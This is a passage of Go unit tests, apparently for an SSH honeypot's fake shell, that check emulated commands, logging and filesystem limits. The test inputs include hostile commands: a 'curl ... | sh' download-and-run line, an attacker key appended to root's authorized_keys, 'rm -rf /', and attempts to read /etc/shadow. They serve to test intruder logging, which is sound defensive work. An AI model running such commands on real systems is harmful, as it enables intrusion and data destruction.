+	if elapsed := time.Since(start); elapsed > 5*time.Second {
+		t.Errorf("sleep returned after %v, want it to return when the session ends", elapsed)
+	}
+}
+
+func TestDockerPs(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "docker", "ps"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "CONTAINER ID   IMAGE     COMMAND   CREATED   STATUS    PORTS     NAMES\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestDockerRun(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.DockerImages = defaultDockerImages
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "docker", "run", "--rm", "-v", "/:/host", "alpine", "sh"); status != 125 {
+		t.Errorf("status=%v, want 125", status)
+	}
+	if !strings.HasPrefix(test.stderr.String(), "Unable to find image 'alpine:latest' locally\n") {
+		t.Errorf("stderr=%q, want the image to be missing", test.stderr.String())
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] docker run of image "alpine" with command ["sh"]
+[127.0.0.1:1234] [channel 0] command "docker" with arguments ["run" "--rm" "-v" "/:/host" "alpine" "sh"] run as user "root" exited with status 125
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+type cmdTestGreeting struct{}
+
+func (cmdTestGreeting) execute(context commandContext) (uint32, error) {
+	_, err := fmt.Fprintln(context.stdout, "hello from a registered command")
+	return 3, err
+}
+
+func TestRegisterCommand(t *testing.T) {
+	registerCommand("greet", cmdTestGreeting{})
+	t.Cleanup(func() { delete(commands, "greet") })
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "greet"); status != 3 {
+		t.Errorf("status=%v, want 3", status)
+	}
+	if test.stdout.String() != "hello from a registered command\n" {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), "hello from a registered command\n")
+	}
+	defer func() {
+		if recover() == nil {
+			t.Errorf("Registering a taken name succeeded, want a panic")
+		}
+	}()
+	registerCommand("ls", cmdTestGreeting{})
+}
+
+func TestDisabledCommand(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.DisabledCommands = []string{"wget"}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "wget", "http://example.com/x.sh"); status != 127 {
+		t.Errorf("status=%v, want 127", status)
+	}
+	if test.stderr.String() != "wget: command not found\n" {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), "wget: command not found\n")
+	}
+	if strings.Contains(test.logs.String(), "download") {
+		t.Errorf("logs=%v, want no download logged", test.logs.String())
+	}
+}
+
+func TestYes(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.YesMaxLines = 3
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "yes", "hello", "world"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "hello world\nhello world\nhello world\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+// closedWriter fails every write, like a channel closed by the client.
+type closedWriter struct {
+	writes int
+}
+
+func (w *closedWriter) Write(p []byte) (int, error) {
+	w.writes++
+	return 0, io.ErrClosedPipe
+}
+
+func TestYesClosedOutput(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	stdout := &closedWriter{}
+	test.context.stdout = stdout
+	context := test.context
+	context.args = []string{"yes"}
+	if _, err := executeProgram(context); err != io.ErrClosedPipe {
+		t.Errorf("err=%v, want %v", err, io.ErrClosedPipe)
+	}
+	if stdout.writes != 1 {
+		t.Errorf("writes=%v, want yes to stop after the first failed write", stdout.writes)
+	}
+}
+
+func TestCdPrevious(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/tmp/.keep", "")
+	test.context.state.fs.addFile("/var/log/.keep", "")
+	test.run(t, "cd", "/tmp")
+	test.run(t, "cd", "/var/log")
+	for _, want := range []string{"/tmp", "/var/log", "/tmp"} {
+		test.stdout.Reset()
+		if status := test.run(t, "cd", "-"); status != 0 {
+			t.Errorf("status=%v, want 0", status)
+		}
+		if test.stdout.String() != want+"\n" || test.context.state.fs.Path != want {
+			t.Errorf("stdout=%q, path=%q, want %q", test.stdout.String(), test.context.state.fs.Path, want)
+		}
+	}
+	if node := test.context.state.fs.lookup("/tmp"); test.context.state.fs.Current != node {
+		t.Errorf("current directory=%+v, want /tmp", test.context.state.fs.Current)
+	}
+}
+
+func TestCdPreviousUnset(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "cd", "-"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if test.stderr.String() != "cd: OLDPWD not set\n" || test.context.state.fs.Path != "/" {
+		t.Errorf("stderr=%q, path=%q, want OLDPWD not set in /", test.stderr.String(), test.context.state.fs.Path)
+	}
+}
+
+func TestStat(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Etc.Passwd = defaultPasswd
+	test := newCommandTest(t, cfg, false)
+	test.context.state.fs.addFile("/tmp/x.sh", "#!/bin/sh\n")
+	if status := test.run(t, "stat", "/tmp/x.sh", "/tmp"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	timestamp := `\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{9} [+-]\d{4}`
+	expectedOutput := regexp.MustCompile(`^  File: /tmp/x\.sh
+  Size: 10        	Blocks: 8          IO Block: 4096   regular file
+Device: 801h/2049d	Inode: \d+ +Links: 1
+Access: \(0644/-rw-r--r--\)  Uid: \(    0/    root\)   Gid: \(    0/    root\)
+Access: ` + timestamp + `
+Modify: ` + timestamp + `
+Change: ` + timestamp + `
+ Birth: -
+  File: /tmp
+  Size: 4096      	Blocks: 8          IO Block: 4096   directory
+Device: 801h/2049d	Inode: \d+ +Links: 2
+Access: \(0777/drwxrwxrwx\)  Uid: \(    0/    root\)   Gid: \(    0/    root\)
+`)
+	if !expectedOutput.MatchString(test.stdout.String()) {
+		t.Errorf("stdout=%q, want it to match %v", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestStatMissing(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "stat", "/nonexistent"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if expected := "stat: cannot stat '/nonexistent': No such file or directory\n"; test.stderr.String() != expected {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expected)
+	}
+}
+
+func TestMkdirExisting(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/srv/notes.txt", "")
+	if status := test.run(t, "mkdir", "/srv", "/srv/notes.txt", "/srv/a/b"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	expectedErrors := `mkdir: cannot create directory '/srv': File exists
+mkdir: cannot create directory '/srv/notes.txt': File exists
+mkdir: cannot create directory '/srv/a/b': No such file or directory
+`
+	if test.stderr.String() != expectedErrors {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedErrors)
+	}
+	if test.context.state.fs.lookup("/srv/a") != nil {
+		t.Errorf("want no intermediate directory created without -p")
+	}
+}
+
+func TestMkdirParents(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/srv/notes.txt", "")
+	if status := test.run(t, "mkdir", "-p", "/srv", "/srv/a/b/c"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if node := test.context.state.fs.lookup("/srv/a/b/c"); node == nil || !node.IsDir {
+		t.Errorf("/srv/a/b/c=%+v, want a directory", node)
+	}
+	if status := test.run(t, "mkdir", "-p", "/srv/notes.txt"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if expected := "mkdir: cannot create directory '/srv/notes.txt': File exists\n"; test.stderr.String() != expected {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expected)
+	}
+}
+
+func TestNano(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "#!/bin/sh", "curl -s http://203.0.113.5/x | sh\x18y")
+	test.context.state.fs.addFile("/tmp/.keep", "")
+	if status := test.run(t, "nano", "/tmp/run.sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedContent := "#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n"
+	if node := test.context.state.fs.lookup("/tmp/run.sh"); node == nil || node.Content != expectedContent {
+		t.Errorf("/tmp/run.sh=%+v, want content %q", node, expectedContent)
+	}
+	expectedLogs := `[127.0.0.1:1234] [channel 0] nano wrote "/tmp/run.sh": "#!/bin/sh\ncurl -s http://203.0.113.5/x | sh\n"
+[127.0.0.1:1234] [channel 0] command "nano" with arguments ["/tmp/run.sh"] run as user "root" exited with status 0
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestVi(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "ssh-ed25519 AAAA attacker", ":wq", "ignored")
+	test.context.state.fs.addFile("/root/.ssh/authorized_keys", "ssh-rsa AAAA admin")
+	if status := test.run(t, "vi", "/root/.ssh/authorized_keys"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedContent := "ssh-rsa AAAA admin\nssh-ed25519 AAAA attacker\n"
+	if node := test.context.state.fs.lookup("/root/.ssh/authorized_keys"); node.Content != expectedContent {
+		t.Errorf("content=%q, want %q", node.Content, expectedContent)
+	}
+	if !strings.HasPrefix(test.stdout.String(), "\"/root/.ssh/authorized_keys\"\nssh-rsa AAAA admin") {
+		t.Errorf("stdout=%q, want the file shown", test.stdout.String())
+	}
+}
+
+func TestLast(t *testing.T) {
+	stubTimeSource(t, time.Date(2023, 11, 14, 9, 12, 37, 0, time.UTC))
+	cfg := &config{}
+	cfg.Shell.LoginHistory = defaultLoginHistory
+	cfg.Shell.Distro = defaultDistro
+	test := newCommandTest(t, cfg, true)
+	if status := test.run(t, "last"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := `root     pts/2        127.0.0.1        Tue Nov 14 09:12   still logged in
+root     pts/1        198.51.100.23    Tue Nov 14 06:58 - 07:45  (00:47)
+deploy   pts/0        10.0.4.12        Mon Nov 13 07:09 - 10:21  (03:12)
+root     pts/0        198.51.100.23    Sun Nov 12 06:31 - 06:43  (00:12)
+reboot   system boot  5.15.0-91-generi Sat Nov 11 08:12   still running
+
+wtmp begins Sat Nov 11 08:12:37 2023
+`
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%v, want %v", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestLastLimit(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.LoginHistory = defaultLoginHistory
+	for _, args := range [][]string{{"-n", "2"}, {"-2"}} {
+		test := newCommandTest(t, cfg, true)
+		if status := test.run(t, append([]string{"last"}, args...)...); status != 0 {
+			t.Errorf("status=%v, want 0", status)
+		}
+		lines := strings.Split(test.stdout.String(), "\n")
+		if len(lines) != 5 || !strings.HasPrefix(lines[0], "root     pts/2        127.0.0.1 ") || !strings.HasPrefix(lines[1], "root     pts/1 ") {
+			t.Errorf("last %v: stdout=%q, want the current session and one previous login", args, test.stdout.String())
+		}
+	}
+}
+
+// dumpReader generates rows of a fake database dump, counting how much was read.
+type dumpReader struct {
+	rows, row int
+	pending   []byte
+	read      int
+}
+
+func (reader *dumpReader) Read(p []byte) (int, error) {
+	for len(reader.pending) < len(p) && reader.row < reader.rows {
+		reader.pending = append(reader.pending, fmt.Sprintf("INSERT INTO users VALUES (%v);\n", reader.row)...)
+		reader.row++
+	}
+	if len(reader.pending) == 0 {
+		return 0, io.EOF
+	}
+	n := copy(p, reader.pending)
+	reader.pending = reader.pending[n:]
+	reader.read += n
+	return n, nil
+}
+
+func TestHeadLazyContent(t *testing.T) {
+	reader := &dumpReader{rows: 1000000}
+	test := newCommandTest(t, &config{}, true)
+	test.context.state.fs.addFile("/root/dump.sql", "").ContentReader = func() io.Reader { return reader }
+	if status := test.run(t, "head", "-n", "2", "/root/dump.sql"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "INSERT INTO users VALUES (0);\nINSERT INTO users VALUES (1);\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+	if reader.read > 64*1024 {
+		t.Errorf("read=%v bytes, want only the beginning of the file to be read", reader.read)
+	}
+}
+
+func TestCatLazyContent(t *testing.T) {
+	test := newCommandTest(t, &config{}, true)
+	test.context.state.fs.addFile("/root/dump.sql", "").ContentReader = func() io.Reader { return &dumpReader{rows: 3} }
+	if status := test.run(t, "cat", "/root/dump.sql"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "INSERT INTO users VALUES (0);\nINSERT INTO users VALUES (1);\nINSERT INTO users VALUES (2);\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestShellQuoting(t *testing.T) {
+	test := newCommandTest(t, &config{}, false,
+		`echo "hello   world" "$HOME/x"`,
+		`echo 'single $HOME' '' end`,
+		`echo escaped\ space \"quoted\" "a\"b"`,
+	)
+	test.context.env = map[string]string{"HOME": "/root"}
+	if status := test.run(t, "sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "hello   world /root/x\nsingle $HOME  end\nescaped space \"quoted\" a\"b\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestShellUnterminatedQuote(t *testing.T) {
+	test := newCommandTest(t, &config{}, false, `echo "oops`)
+	if status := test.run(t, "sh"); status != 2 {
+		t.Errorf("status=%v, want 2", status)
+	}
+	if test.stdout.String() != "" {
+		t.Errorf("stdout=%q, want none", test.stdout.String())
+	}
+	expectedError := "sh: 1: Syntax error: Unterminated quoted string\n"
+	if test.stderr.String() != expectedError {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedError)
+	}
+}
+
+func TestCatSubdirectory(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/srv/app/config.ini", "[db]\npassword=hunter2\n")
+	if status := test.run(t, "cat", "/srv/app/config.ini", "srv/app/../app/config.ini"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "[db]\npassword=hunter2\n[db]\npassword=hunter2\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestTouchSubdirectory(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/srv/app/config.ini", "[db]\n")
+	if status := test.run(t, "touch", "/srv/app/new.txt", "srv/app/config.ini"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if node := test.context.state.fs.lookup("/srv/app/new.txt"); node == nil || node.IsDir || node.Parent != test.context.state.fs.lookup("/srv/app") {
+		t.Errorf("/srv/app/new.txt=%+v, want a file in /srv/app", node)
+	}
+	if node := test.context.state.fs.lookup("/srv/app/config.ini"); node.Content != "[db]\n" {
+		t.Errorf("config.ini content=%q, want it unchanged", node.Content)
+	}
+}
+
+func TestTouchMissingDirectory(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/srv/app/config.ini", "")
+	if status := test.run(t, "touch", "/srv/missing/new.txt"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	expectedError := "touch: cannot touch '/srv/missing/new.txt': No such file or directory\n"
+	if test.stderr.String() != expectedError {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedError)
+	}
+	if test.context.state.fs.lookup("/srv/missing") != nil {
+		t.Errorf("/srv/missing was created")
+	}
+}
+
+func TestFindName(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/srv/app/notes.txt", "")
+	test.context.state.fs.addFile("/srv/app/config.ini", "")
+	if status := test.run(t, "find", "/", "-name", "*.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "/checking_account.txt\n/pwd.txt\n/srv/app/notes.txt\n/usr.txt\n/var/lib/cloud/instance/user-data.txt\n"
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestFindType(t *testing.T) {
+	for fileType, expectedOutput := range map[string]string{
+		"d": "/srv\n/srv/app\n",
+		"f": "/srv/app/config.ini\n",
+	} {
+		test := newCommandTest(t, &config{}, false)
+		test.context.state.fs.addFile("/srv/app/config.ini", "")
+		if status := test.run(t, "find", "/srv", "-type", fileType); status != 0 {
+			t.Errorf("status=%v, want 0", status)
+		}
+		if test.stdout.String() != expectedOutput {
+			t.Errorf("-type %v: stdout=%q, want %q", fileType, test.stdout.String(), expectedOutput)
+		}
+	}
+}
+
+func TestFileSystemNodeLimit(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.maxNodes = test.context.state.fs.nodes + 2
+	if status := test.run(t, "mkdir", "a", "b", "c"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	if status := test.run(t, "touch", "d"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	expectedError := "mkdir: cannot create directory 'c': No space left on device\ntouch: cannot touch 'd': No space left on device\n"
+	if test.stderr.String() != expectedError {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedError)
+	}
+	if test.context.state.fs.lookup("b") == nil || test.context.state.fs.lookup("c") != nil {
+		t.Errorf("want b created and c not")
+	}
+}
+
+func TestFileSystemByteLimit(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	fs := test.context.state.fs
+	fs.maxBytes = fs.bytes + 10
+	file, err := fs.create(fs.Root, "payload.sh", false, "root")
+	if err != nil {
+		t.Fatalf("Failed to create file: %v", err)
+	}
+	if err := fs.write(file, "#!/bin/sh\n"); err != nil {
+		t.Errorf("write within the limit: err=%v, want nil", err)
+	}
+	if err := fs.write(file, "#!/bin/sh\nrm -rf /\n"); err != errNoSpace {
+		t.Errorf("write beyond the limit: err=%v, want %v", err, errNoSpace)
+	}
+	if file.Content != "#!/bin/sh\n" {
+		t.Errorf("Content=%q, want it unchanged", file.Content)
+	}
+}
+
+func TestSessionFileSystemIsolation(t *testing.T) {
+	first := newCommandTest(t, &config{}, false)
+	second := newCommandTest(t, &config{}, false)
+	first.run(t, "touch", "marker")
+	if second.context.state.fs.lookup("marker") != nil || FileSystem.lookup("marker") != nil {
+		t.Errorf("file created in one session is visible elsewhere")
+	}
+}
+
+func TestChmod(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.state.fs.addFile("/tmp/payload.sh", "#!/bin/sh\n")
+	if status := test.run(t, "chmod", "755", "/tmp/payload.sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if status := test.run(t, "ls", "-l", "/tmp/payload.sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if !strings.HasPrefix(test.stdout.String(), "-rwxr-xr-x 1 root root ") {
+		t.Errorf("stdout=%q, want an executable file owned by root", test.stdout.String())
+	}
+}
+
+func TestChmodSymbolic(t *testing.T) {
+	for mode, expected := range map[string]os.FileMode{
+		"+x":       0755,
+		"u+x,go-r": 0700,
+		"a=r":      0444,
+		"g+w":      0664,
+	} {
+		result, err := parseMode(mode, 0644, false)
+		if err != nil {
+			t.Errorf("parseMode(%q): %v", mode, err)
+		}
+		if result != expected {
+			t.Errorf("parseMode(%q)=%v, want %v", mode, result, expected)
+		}
+	}
+}
+
+func TestChmodInvalidMode(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "chmod", "rwx", "usr.txt"); status != 1 {
+		t.Errorf("status=%v, want 1", status)
+	}
+	expectedError := "chmod: invalid mode: 'rwx'\nTry 'chmod --help' for more information.\n"
+	if test.stderr.String() != expectedError {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedError)
+	}
+}
+
+func TestChown(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "chown", "www-data", "usr.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if status := test.run(t, "chown", ":adm", "pwd.txt"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	usr, pwd := test.context.state.fs.lookup("usr.txt"), test.context.state.fs.lookup("pwd.txt")
+	if usr.owner() != "www-data" || usr.group() != "root" {
+		t.Errorf("usr.txt owner=%v group=%v, want www-data root", usr.owner(), usr.group())
+	}
+	if pwd.owner() != "root" || pwd.group() != "adm" {
+		t.Errorf("pwd.txt owner=%v group=%v, want root adm", pwd.owner(), pwd.group())
+	}
+}
+
+func TestChmodChownNotPermitted(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	test.context.user = "admin"
+	shadow := test.context.state.fs.addFile("/etc/shadow", "root:$6$hash:19000:0:99999:7:::\n")
+	shadow.Mode = 0640
+	test.context.state.fs.addFile("/home/admin/notes", "").Owner = "admin"
+	if status := test.run(t, "chmod", "644", "/etc/shadow"); status != 1 {
+		t.Errorf("chmod status=%v, want 1", status)
+	}
+	if status := test.run(t, "chown", "admin", "/etc/shadow"); status != 1 {
+		t.Errorf("chown status=%v, want 1", status)
+	}
+	if status := test.run(t, "chown", "root", "/home/admin/notes"); status != 1 {
+		t.Errorf("chown of an owned file status=%v, want 1", status)
+	}
+	if status := test.run(t, "chmod", "600", "/home/admin/notes"); status != 0 {
+		t.Errorf("chmod of an owned file status=%v, want 0", status)
+	}
+	expectedErrors := "chmod: changing permissions of '/etc/shadow': Operation not permitted\n" +
+		"chown: changing ownership of '/etc/shadow': Operation not permitted\n" +
+		"chown: changing ownership of '/home/admin/notes': Operation not permitted\n"
+	if test.stderr.String() != expectedErrors {
+		t.Errorf("stderr=%q, want %q", test.stderr.String(), expectedErrors)
+	}
+	if shadow.Mode != 0640 || shadow.owner() != "root" {
+		t.Errorf("/etc/shadow mode=%v owner=%v, want it unchanged", shadow.Mode, shadow.owner())
+	}
+	if notes := test.context.state.fs.lookup("/home/admin/notes"); notes.Mode != 0600 || notes.owner() != "admin" {
+		t.Errorf("/home/admin/notes mode=%v owner=%v, want 0600 admin", notes.Mode, notes.owner())
+	}
+}
+
+func TestCommandLog(t *testing.T) {
+	cfg := &config{}
+	cfg.Logging.JSON = true
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "ls", "-l", "/"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedLogs := `{"source":"127.0.0.1:1234","event_type":"command","event":{"channel_id":0,"command":"ls","args":["-l","/"],"exit_status":0,"user":"root","cwd":"/"}}
+`
+	if test.logs.String() != expectedLogs {
+		t.Errorf("logs=%v, want %v", test.logs.String(), expectedLogs)
+	}
+}
+
+func TestClear(t *testing.T) {
+	test := newCommandTest(t, &config{}, true)
+	if status := test.run(t, "clear"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != clearScreen {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), clearScreen)
+	}
+}
+
+func TestClearWithoutPTY(t *testing.T) {
+	test := newCommandTest(t, &config{}, false)
+	if status := test.run(t, "clear"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != "" {
+		t.Errorf("stdout=%q, want nothing", test.stdout.String())
+	}
+}
+
+func TestShellEmptyLines(t *testing.T) {
+	test := newCommandTest(t, &config{}, true, "", "  ", "\x0c")
+	if status := test.run(t, "sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != "# # # # " {
+		t.Errorf("stdout=%q, want only prompts", test.stdout.String())
+	}
+	if test.stderr.String() != "" {
+		t.Errorf("stderr=%q, want nothing", test.stderr.String())
+	}
+}
+
+func TestShellMOTD(t *testing.T) {
+	stubTimeSource(t, time.Date(2021, time.March, 1, 9, 5, 3, 0, time.UTC))
+	cfg := &config{}
+	cfg.clock = clock{location: time.UTC}
+	cfg.Shell.Hostname = "web-01"
+	cfg.Shell.MOTD.LastLogin = true
+	cfg.motd = template.Must(template.New("motd").Parse("Welcome to {{.Hostname}}, {{.User}}!\n"))
+	test := newCommandTest(t, cfg, true, "true")
+	if status := test.run(t, "sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "Welcome to web-01, root!\nLast login: Sun Feb 28 14:32:10 2021 from 198.51.100.96\n# # "
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestDf(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Mounts = defaultMounts
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "df"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	lines := strings.Split(test.stdout.String(), "\n")
+	if lines[0] != "Filesystem      1K-blocks     Used Available Use% Mounted on" {
+		t.Errorf("header=%q, want the df header", lines[0])
+	}
+	if lines[1] != "/dev/root       101445540 18973528  82472012  19% /" {
+		t.Errorf("lines[1]=%q, want the root mount", lines[1])
+	}
+}
+
+func TestDfHumanReadable(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Mounts = []mountConfig{
+		{Filesystem: "/dev/sda1", Size: 30428648, Used: 5242880, MountedOn: "/"},
+		{Filesystem: "tmpfs", Size: 5120, MountedOn: "/run/lock"},
+	}
+	test := newCommandTest(t, cfg, false)
+	if status := test.run(t, "df", "-h"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := `Filesystem      Size  Used Avail Use% Mounted on
+/dev/sda1        30G  5.0G   25G  18% /
+tmpfs           5.0M     0  5.0M   0% /run/lock
+`
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestFree(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Hardware.MemoryMB = 4096
+	for _, test := range []struct {
+		args           []string
+		expectedOutput string
+	}{
+		{[]string{"free"}, `              total        used        free      shared  buff/cache   available
+Mem:        4089446      715654     2453667        1024      920125     3373792
+Swap:             0           0           0
+`},
+		{[]string{"free", "-m"}, `              total        used        free      shared  buff/cache   available
+Mem:           3993         698        2396           1         898        3294
+Swap:             0           0           0
+`},
+		{[]string{"free", "-h"}, `              total        used        free      shared  buff/cache   available
+Mem:          3.9Gi       698Mi       2.3Gi       1.0Mi       898Mi       3.2Gi
+Swap:            0B          0B          0B
+`},
+	} {
+		commandTest := newCommandTest(t, cfg, false)
+		if status := commandTest.run(t, test.args...); status != 0 {
+			t.Errorf("%v: status=%v, want 0", test.args, status)
+		}
+		if commandTest.stdout.String() != test.expectedOutput {
+			t.Errorf("%v: stdout=%q, want %q", test.args, commandTest.stdout.String(), test.expectedOutput)
+		}
+	}
+}
+
+func TestShellPrompt(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Hostname = "web-01.example.com"
+	cfg.Shell.Prompt = `\u@\h:\w\$ `
+	test := newCommandTest(t, cfg, true, "mkdir /root", "cd /root", "mkdir projects", "cd projects")
+	if status := test.run(t, "sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "root@web-01:/# root@web-01:/# root@web-01:~# root@web-01:~# root@web-01:~/projects# "
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestShellPromptUser(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Prompt = `[\u \W]\$ `
+	test := newCommandTest(t, cfg, true, "cd /proc")
+	test.context.user = "admin"
+	test.context.state.fs.addFile("/proc/version", "")
+	if status := test.run(t, "sh"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	expectedOutput := "[admin /]$ [admin proc]$ "
+	if test.stdout.String() != expectedOutput {
+		t.Errorf("stdout=%q, want %q", test.stdout.String(), expectedOutput)
+	}
+}
+
+func TestCommandLogCwd(t *testing.T) {
+	cfg := &config{}
+	cfg.Logging.JSON = true
+	test := newCommandTest(t, cfg, false)
+	test.context.state.fs.addFile("/tmp/.keep", "")
+	test.run(t, "cd", "/tmp")
+	test.logs.Reset()
+	if status := test.run(t, "touch", "x"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	var entry struct {
+		Event commandLog `json:"event"`
+	}
+	if err := json.Unmarshal(test.logs.Bytes(), &entry); err != nil {
+		t.Fatalf("Failed to parse logs %q: %v", test.logs.String(), err)
+	}
+	if entry.Event.Command != "touch" || entry.Event.Cwd != "/tmp" {
+		t.Errorf("event=%+v, want touch run in /tmp", entry.Event)
+	}
+}
+
+func TestCatPasswd(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Etc = etcConfig{Passwd: defaultPasswd, Shadow: defaultShadow}
+	test := newCommandTest(t, cfg, false)
+	test.context.user = "admin"
+	if status := test.run(t, "cat", "/etc/passwd"); status != 0 {
+		t.Errorf("status=%v, want 0", status)
+	}
+	if test.stdout.String() != defaultPasswd {
+		t.Errorf("stdout=%q, want the passwd file", test.stdout.String())
+	}
+}
+
+func TestCatShadowDenied(t *testing.T) {
+	cfg := &config{}
+	cfg.Shell.Etc = etcConfig{Passwd: defaultPasswd, Shadow: defaultShadow}
+	test := newCommandTest(t, cfg, false)
+	test.context.user = "admin"
+	if status := test.run(t, "cat", "/etc/shadow"); status != 1 {
